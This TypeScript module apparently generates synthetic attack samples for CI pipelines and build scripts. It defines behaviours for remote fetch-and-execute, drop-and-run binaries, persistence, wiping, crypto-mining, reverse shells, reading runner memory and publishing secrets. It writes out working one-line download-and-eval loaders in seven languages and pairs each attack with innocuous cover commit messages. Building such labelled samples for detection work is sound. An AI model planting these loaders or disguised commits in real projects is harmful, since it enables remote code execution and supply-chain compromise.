/** Attacks that are a deed of their own: they stay, destroy, mine, open a way in, or read what a runner keeps. */
import { aHost, anAddress } from "../hosts.ts";
import type { Language } from "../model.ts";
import type { Behaviour } from "./behaviour.ts";
import { command, destroys, mines, publishes, readsRunner, stays } from "./deed-acts.ts";
import { PIPELINES } from "./ordinary.ts";

const TOOLING = [
  "build: prepare the tools",
  "chore: tidy the set-up",
  "Set up the workplace",
  "fix: first start on new machines",
];
const QUIET = ["chore: clean up", "fix: leftovers of old builds", "refactor: tidy", "Update scripts"];

const LOADERS: Partial<Record<Language, (where: string) => string>> = {
  javascript: (where) => `fetch("${where}").then((r) => r.text()).then((t) => (0, eval)(t))`,
  python: (where) => `import urllib.request as r; exec(r.urlopen("${where}").read())`,
  ruby: (where) => `require "open-uri"; eval(URI.open("${where}").read)`,
  php: (where) => `eval(file_get_contents("${where}"));`,
  perl: (where) => `use LWP::Simple; eval(get("${where}"));`,
  powershell: (where) => `iex (iwr -UseBasicParsing "${where}").Content`,
  groovy: (where) => `evaluate(new URL("${where}").text)`,
};

const STEPS = [...PIPELINES, "makefile", "npm-test-script", "script", "autogen"];

export const DEEDS: readonly Behaviour[] = [
  {
    id: "decode-evaluate",
    kind: "attack",
    languages: ["javascript", "typescript", "python", "ruby", "php", "perl", "powershell", "groovy"],
    acts: (random, language) => {
      const loader = LOADERS[language === "typescript" ? "javascript" : language] ?? ((where) => where);
      return [{ does: "evaluate", what: { from: "decoded", text: loader(anAddress(random)) } }];
    },
    messages: TOOLING,
  },
  {
    id: "drop-start",
    kind: "attack",
    acts: (random) => {
      const path = random.pick(["/tmp/.lantern", "/var/tmp/tables", "/tmp/helper-bin"]);
      return [
        { does: "save", what: { from: "fetched", url: anAddress(random) }, path },
        command(`chmod +x ${path}`),
        command(path),
      ];
    },
    messages: TOOLING,
  },
  { id: "persist", kind: "attack", acts: stays, messages: TOOLING },
  { id: "wipe", kind: "attack", acts: destroys, messages: QUIET },
  { id: "mine", kind: "attack", acts: mines, messages: QUIET },
  {
    id: "reverse-shell",
    kind: "attack",
    acts: (random) => [{ does: "hand-shell", host: aHost(random), port: random.pick(["443", "4444", "9001", "8443"]) }],
    messages: QUIET,
  },
  {
    id: "runner-memory",
    kind: "attack",
    acts: readsRunner,
    languages: ["shell", "javascript", "python", "typescript"],
    places: [...STEPS, "action-dist", "action-source", "script-python", "github-script"],
    messages: QUIET,
  },
  {
    id: "publish-secret",
    kind: "attack",
    acts: publishes,
    languages: ["shell", "javascript", "python"],
    places: STEPS,
    messages: QUIET,
  },
];
